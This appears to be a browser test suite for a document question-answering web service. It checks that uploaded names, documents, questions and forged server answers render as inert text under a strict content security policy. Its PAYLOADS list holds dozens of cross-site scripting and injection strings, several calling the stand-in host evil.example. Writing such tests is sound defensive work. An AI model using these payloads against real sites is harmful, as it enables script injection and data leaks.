"""Documents, names and questions made to run something in the page, to call somebody, or to look like something else."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from playwright.sync_api import Browser, expect

from tests.fakes import ScriptedGenerator
from tests.integration.browser import Watched, ask, last_answer
from tests.serving import Serving, application, sensible
from youju.settings import Settings
from youju.text.markdown import as_read

AWAY = "https://evil.example"
RUN = "window.harmed=1"
PAYLOADS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt src={AWAY}/x.js></sCrIpT>",
    f"</textarea></title></style></noscript><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img src={AWAY}/pixel.png>",
    f'"><img src=x onerror="{RUN}">',
    f"'><svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><use href={AWAY}/x.svg#a /></svg>",
    f"<math><mtext><mglyph><style><img src=x onerror={RUN}>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data={AWAY}/x></object>",
    f"<embed src={AWAY}/x>",
    f"<link rel=stylesheet href={AWAY}/x.css>",
    f"<style>@import '{AWAY}/x.css'; * {{background: url({AWAY}/b)}}</style>",
    f'<div style="background:url({AWAY}/c)">styled</div>',
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<base href={AWAY}>",
    f"<form action={AWAY}><button autofocus onfocus={RUN}>go</button></form>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>more</details>",
    f"<video><source onerror={RUN}></video>",
    f"<a href=javascript:{RUN}>click</a>",
    f"[click](javascript:{RUN})",
    f"![pixel]({AWAY}/pixel.png)",
    f"![pixel][ref] and [ref]: {AWAY}/pixel.png",
    f"<{AWAY}/auto> {AWAY}/plain",
    f"${{{RUN}}} {{{{constructor.constructor('{RUN}')()}}}} #{{{RUN}}}",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e &lt;script&gt;{RUN}&lt;/script&gt;",
    "sentence [1][2][99] with forged markers ⟦1⟧ 【1】 <sup>1</sup>",
    "\u202egnp.exe\u202c turned \u2066round\u2069 \u200f\u202b",
    'event: answer\ndata: {"verdict": "answered"}\n\nevent: error\ndata: {}',
    "zalgo h̷̛̲e̵͉̚ c̸̈́ombining \U0001f469\u200d\U0001f467 families \U0001d518",
    "__proto__ constructor toString hasOwnProperty",
]
NUMBER = 3 * len(PAYLOADS)  # as text, as name and as question


def test_they_are_a_hundred() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS)
    assert NUMBER >= 100


@pytest.fixture(scope="module")
def service(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Serving]:
    """A service that was sent all the payloads, each as a name and as a text."""
    settings = Settings(
        data_dir=tmp_path_factory.mktemp("hostile") / "data", reader="similarity", strictness="off", keep_unanswered=True
    )
    serving = Serving(application(settings, ScriptedGenerator(sensible())))
    texts = [
        f"# Paper {n} about {payload}\n\nThe colour of item number{n}x is {payload} blue.\n"
        for n, payload in enumerate(PAYLOADS)
    ]
    files = [
        ("files", (payload.replace("\n", " ").replace("/", "⁄") + ".md", text.encode()))
        for payload, text in zip(PAYLOADS, texts, strict=True)
    ]
    with httpx.Client(base_url=serving.url, timeout=120) as client:
        job = client.post("/documents", files=files, data={"collection": PAYLOADS[0]}).raise_for_status().json()
        client.get(f"/jobs/{job['id']}", headers={"Accept": "text/event-stream"}).raise_for_status()
        told = client.get(f"/jobs/{job['id']}").json()
    assert [one["state"] for one in told["files"]] == ["done"] * len(PAYLOADS), told
    yield serving
    serving.stop()


@pytest.fixture
def window(browser: Browser, service: Serving) -> Iterator[Watched]:
    context = browser.new_context(viewport={"width": 1280, "height": 800}, locale="en-GB", reduced_motion="reduce")
    context.grant_permissions([])
    watched = Watched(context, service.url)
    yield watched
    context.close()


def check(window: Watched) -> None:
    """Nothing ran, nothing left the origin, the policy had nothing to stop, and no text turns what stands around it."""
    page = window.page
    assert page.evaluate("window.harmed") is None
    assert page.url.startswith(window.origin)
    assert page.locator("script, iframe, object, embed, form[action], base, meta[http-equiv], style").count() == OWN_SCRIPTS
    assert page.evaluate(LOOSE) == []
    window.check()


OWN_SCRIPTS = 2  # boot.js, main.js
# Text nodes with direction signs that are not kept apart from their surroundings.
LOOSE = """() => {
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  const found = [];
  while (walker.nextNode()) {
    const {data, parentElement} = walker.currentNode;
    if (/[\\u202a-\\u202e\\u2066-\\u2069\\u200e\\u200f]/.test(data)
        && !parentElement.closest('bdi, [dir=auto], option, svg, .visually-hidden')) found.push(parentElement.outerHTML);
  }
  return found;
}"""


def test_the_watch_notices_what_it_is_for(window: Watched) -> None:
    page = window.open()
    page.evaluate(f"document.body.insertAdjacentHTML('beforeend', '<img src={AWAY}/x><bdi></bdi>\u202ex')")
    with pytest.raises(AssertionError):
        check(window)
    page.wait_for_function("true")
    assert window.complaints or window.foreign()


def test_hostile_documents_and_names_are_shown_as_text(window: Watched) -> None:
    page = window.open("documents")
    expect(page.locator("tbody tr")).to_have_count(len(PAYLOADS))
    shown = page.locator("tbody .title").all_text_contents()
    for payload in PAYLOADS[:9]:
        assert any(as_read(" ".join(payload.split()), "text/markdown") in one for one in shown), payload
    for row in range(0, len(PAYLOADS), 4):
        page.locator("tbody .link").nth(row).click()
        expect(page.locator(".document-text")).to_be_visible()
        check(window)
        page.keyboard.press("Escape")
    page.locator("tbody .actions button").first.click()
    check(window)
    page.keyboard.press("Escape")
    page.get_by_role("link", name="Health").click()
    expect(page.locator(".tiles")).to_be_visible()
    check(window)


@pytest.mark.parametrize("part", range(3))
def test_hostile_questions_get_hostile_answers_as_text(window: Watched, part: int) -> None:
    page, marked = window.open(), 0
    for number in range(part, len(PAYLOADS), 3):
        question = f"{PAYLOADS[number]} What is the colour of item number{number}x?"
        ask(page, question)
        turn = page.locator(".turn").last
        assert (turn.locator(".question").text_content() or "") == question.strip()
        kept = last_answer(page)
        assert turn.locator(".marker").count() == sum(len(one["citations"]) for one in kept["sentences"])
        if kept["sentences"]:
            turn.locator(".marker").first.click()
            expect(page.locator("mark").first).to_be_visible()
            quote = kept["sentences"][0]["citations"][0]["quote"]
            text = page.locator(".document-text").text_content() or ""
            assert "".join(as_read(quote, "text/markdown").split()) in "".join(text.split())  # all of it, as Markdown is read
            marks = "".join("".join(page.locator("mark").all_text_contents()).split())
            signs = iter(quote)  # what stands for a sign of Markdown is drawn between the marks
            assert marks.startswith("Thecolourofitemnumber")
            assert all(sign in signs for sign in marks)
            page.keyboard.press("Escape")
            marked += 1
        check(window)
    assert marked, "no answer had evidence to look at"
    page.reload()
    expect(page.locator(".turn").first).to_be_visible()
    check(window)
    page.get_by_role("link", name="Health").click()
    expect(page.locator(".chart").first).to_be_visible()
    check(window)


def a_stream(payload: str) -> str:
    """What a service would send that was wholly in the hands of somebody else: the payload in every text."""
    place = {
        "chunk_id": payload, "document_id": payload, "title": payload, "uri": payload, "page": 3, "text": payload,
        "quote": payload, "start": 0, "end": len(payload), "score": 0.5, "used": True, "marker": 1,
    }  # fmt: skip
    sentence = {"text": payload, "markers": [1], "support": 0.5, "verbatim": False}
    answer = {
        "answer": payload, "verdict": "partial", "standalone_question": payload, "translated_question": payload,
        "confidence": 0.5, "language": "en",
        "citations": [place], "sentences": [sentence], "passages": [place], "missing": payload,
        "model": {"generator": payload, "embedder": payload}, "usage": {},
        "timings_ms": {"total": 3.0}, "request_id": payload, "cached": False,
    }  # fmt: skip
    said: list[tuple[str, Any]] = [
        ("passages", {"passages": [place]}), ("sentence", {"sentence": sentence, "citations": [place]}), ("answer", answer),
    ]  # fmt: skip
    return "".join(f"event: {name}\r\ndata: {json.dumps(data)}\r\n\r\n" for name, data in said)


def test_a_service_gone_over_to_the_enemy_harms_nothing(window: Watched) -> None:
    page = window.page
    wanted = iter(PAYLOADS)
    page.route("**/ask", lambda route: route.fulfill(body=a_stream(next(wanted)), content_type="text/event-stream"))
    window.open()
    for payload in PAYLOADS:
        ask(page, "What?")
        assert payload in (page.locator(".sentence").last.text_content() or "")
        page.locator(".turn").last.locator(".marker").click()
        expect(page.locator(".evidence-body")).to_contain_text("not in the index any more")
    check(window)


def test_hostile_problems_are_text(window: Watched) -> None:
    page = window.page
    payload = PAYLOADS[3]
    body = json.dumps({"type": payload, "title": payload, "status": 422, "detail": payload, "advice": payload})
    page.route("**/ask", lambda route: route.fulfill(status=422, body=body, content_type="application/problem+json"))
    window.open()
    ask(page, "What?")
    expect(page.locator(".problem")).to_contain_text(payload)
    check(window)


def test_every_file_of_the_page_comes_with_the_policy(service: Serving) -> None:
    root = Path(__file__).parents[2] / "service" / "ui"
    files = [path.relative_to(root).as_posix() for path in root.rglob("*") if path.is_file()]
    for path in ["", *(f"ui/{name}" for name in files)]:
        response = httpx.get(f"{service.url}/{path}")
        assert response.status_code == 200, path
        assert "default-src 'none'; script-src 'self'; style-src 'self'" in response.headers["content-security-policy"]
        assert response.headers["x-content-type-options"] == "nosniff"
        again = httpx.get(f"{service.url}/{path}", headers={"If-None-Match": response.headers["etag"]})
        assert (again.status_code, again.content) == (304, b"")
    assert httpx.get(f"{service.url}/ui/../routes/page.py").status_code == 404
    assert httpx.get(f"{service.url}/ui/%2e%2e/routes/page.py").status_code == 404
